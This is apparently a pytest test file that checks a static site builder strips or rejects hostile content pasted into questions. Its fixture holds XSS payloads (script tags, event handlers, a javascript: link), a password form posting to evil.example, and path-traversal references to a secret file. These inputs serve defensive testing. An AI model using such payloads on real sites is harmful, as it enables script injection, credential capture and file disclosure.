"""What a pasted question may hold that no reader is to get: made harmless, or an error with its line."""

from __future__ import annotations

import pytest

from marked_up import without_data
from sites import Site

CANARY = "canary-of-the-build-machine"
PASTED = """\
<script>alert(1)</script><img src=/files/plan.txt onerror=alert(2)> <svg onload=alert(3)></svg>

<form action="https://evil.example/"><input name="password"></form> {attach}../../secret.txt and |static|../secret.txt

<a href="/files/plan.txt" onclick="alert(4)" style="position:fixed">the plan</a>

[a post](https://example.org/post?utm_source=mail&id=7&gclid=abc)
"""


@pytest.fixture(scope="module")
def pasted(tmp_path_factory):
    site = Site(tmp_path_factory.mktemp("pasted") / "site")
    site.write("secret.txt", CANARY)
    site.write("content/files/plan.txt", "plan")
    site.person()
    site.question(
        "how", "How <script>alert(0)</script> {attach}../secret.txt?", "", f"{PASTED}\n## @ada 2026-02-02\n\n{PASTED}"
    )
    site.build("--offline")
    return site


def test_scripts_forms_and_markers_in_a_question_do_nothing(pasted):
    page = without_data(pasted.page("questions/how"))
    files = pasted.tree()

    assert [] == [
        word
        for word in ("<script", "evil.example", "onerror", "onload", "onclick", "<form", "<input", "style=")
        if word in page
    ]
    assert [] == [path for path, body in files.items() if CANARY.encode() in body]
    assert "files/plan.txt" in files
    assert [] == [path for path in files if "secret" in path]


def test_what_follows_readers_is_taken_off_a_link(pasted):
    page = pasted.page("questions/how")

    assert 2 == page.count('href="https://example.org/post?id=7"')
    assert [] == [path for path, body in pasted.tree().items() if b"utm_source" in body]


@pytest.mark.parametrize(
    ("written", "line", "got"),
    [
        ("[x]({attach}../secret.txt)", 5, "'{attach}../secret.txt'"),
        ("![x](https://example.org/pixel.gif)", 5, "'https://example.org/pixel.gif'"),
        ("Text.\n\n[x](javascript:alert(1))", 7, "'javascript:alert(1)'"),
    ],
)
def test_an_address_that_cannot_be_meant_is_an_error_at_its_line(written, line, got, site):
    site.question("how", "How?", "", f"{written}\n")
    done = site.run("check")

    assert done.code == 1
    assert f"content/questions/how.md:{line}: expected" in done.err
    assert f"got {got}" in done.err


def test_a_question_of_a_megabyte_publishes_nothing(site):
    site.question("how", "How?", "", "word " * 190_000)
    done = site.run("build", "--offline")

    assert done.code == 1
    assert "content/questions/how.md:5: expected a text of at most 40,000 characters; got 949,999." in done.err
    assert not (site.output / "index.html").exists()
